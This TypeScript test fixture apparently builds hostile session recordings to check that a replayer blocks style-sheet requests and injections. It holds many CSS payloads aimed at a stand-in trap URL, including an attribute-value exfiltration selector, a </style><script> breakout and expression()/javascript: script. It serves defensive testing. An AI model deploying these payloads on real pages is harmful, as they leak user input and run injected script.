// Style sheets that ask for things, in every way a record can bring one.

import { add, BODY_ID, change, type HostileRecording, mutation, nodes, page, recording, type Trap } from "./records";

const PROPERTIES = [
  "background",
  "background-image",
  "list-style",
  "list-style-image",
  "border-image",
  "border-image-source",
  "cursor",
  "content",
  "mask",
  "mask-image",
  "-webkit-mask-box-image",
  "filter",
  "backdrop-filter",
  "clip-path",
  "shape-outside",
  "offset-path",
  "behavior",
  "-moz-binding",
  "src",
  "--custom",
];

export function styles(trap: Trap): HostileRecording[] {
  const url = `${trap.url}/styled`;
  const sheets: Record<string, string> = {
    "@import": `@import "${url}"; @import url(${url}) layer(x);`,
    "@font-face": `@font-face { font-family: pwned; src: url(${url}) } body { font-family: pwned }`,
    "@namespace": `@namespace x url(${url});`,
    "image-set": `body { background: image-set(url(${url}) 1x, "${url}" 2x) }`,
    "-webkit-image-set": `body { background: -webkit-image-set(url(${url}) 1x) }`,
    "cross-fade": `body { background: -webkit-cross-fade(url(${url}), url(${url}), 50%) }`,
    "an escaped url": `body { background: \\75rl(${url}); content: u\\72l("${url}") }`,
    "an end of the element": `</style><script>top.postMessage('PWNED','*')</script><style>`,
    "an end of the element in a string": `p::after { content: "</style><img src=${url}>" }`,
    expression: `body { width: expression(top.postMessage('PWNED','*')); x: javascript:alert(1) }`,
    "a custom property": `:root { --x: url(${url}) } body { background: var(--x) }`,
    "attribute values sent letter by letter": `input[value^="a"] { background: url(${url}?a) } p { background: url(${url}?p) }`,
    "@property": `@property --x { syntax: "<url>"; inherits: true; initial-value: url(${url}) } body { background: var(--x) }`,
    "a counter style": `@counter-style x { system: fixed; symbols: url(${url}) } li { list-style: x }`,
    "@view-transition": `@view-transition { navigation: auto } ::view-transition { background: url(${url}) }`,
    "@document": `@document url(${url}) { p { color: red } }`,
    "a cursor that is hovered": `*, *:hover { cursor: url(${url}), auto }`,
    "pseudo elements": `p::before, p::marker, ::selection, ::backdrop { content: url(${url}); background: url(${url}) }`,
    "a print sheet": `@media all { body { background: url(${url}) } } @page { background: url(${url}) }`,
    "unicode-range": `@font-face { font-family: x; src: url(${url}); unicode-range: U+42 } p { font-family: x }`,
  };
  const properties = PROPERTIES.map((property): [string, string] => [
    property,
    `p, p::before { ${property}: url("${url}") }`,
  ]);
  const inElements = Object.entries({ ...sheets, ...Object.fromEntries(properties) }).flatMap(([name, css]) => {
    const { element, text, next } = nodes();
    const empty = element("style", {}, [text("", { isStyle: true })]);
    const host = element("div", {}, [{ ...element("p"), isShadow: true }], { isShadowHost: true });
    const rules = [{ rule: css, index: 0 }];
    const styleId = next();
    return [
      recording(`style: ${name}`, page([], [element("style", {}, [text(css, { isStyle: true })])])),
      recording(
        `told style sheet: ${name}`,
        page([], [element("link", { rel: "stylesheet", href: url, _cssText: css })]),
      ),
      recording(
        `changed style sheet: ${name}`,
        page([host], [empty]),
        mutation({ texts: [{ id: empty.childNodes[0].id, value: css }] }),
        change(8, { id: empty.id, adds: rules }),
        change(8, { id: empty.id, replace: css }),
        change(8, { id: empty.id, replaceSync: css }),
        change(15, { id: host.id, styles: [{ styleId, rules }], styleIds: [styleId] }),
        change(15, { id: 1, styles: [{ styleId: styleId + 1, rules }], styleIds: [styleId + 1] }),
      ),
    ];
  });
  const inAttributes = PROPERTIES.map((property) => {
    const { element, text } = nodes();
    const plain = element("div", { style: "color: red" }, [text("text")]);
    const sheet = element("style", { _cssText: "p { color: red }" });
    return recording(
      `style attribute: ${property}`,
      page([element("div", { style: `${property}: url(${url})` }), plain], [sheet]),
      mutation({ attributes: [{ id: plain.id, attributes: { style: { [property]: `url(${url})` } } }] }),
      mutation({ attributes: [{ id: plain.id, attributes: { style: { [property]: [`url(${url})`, "important"] } } }] }),
      change(13, { id: sheet.id, index: [0], set: { property, value: `url(${url})`, priority: "important" } }),
      mutation({ adds: [add(element("p", { style: `${property}: url('${url}')` }), BODY_ID)] }),
    );
  });
  return [...inElements, ...inAttributes];
}
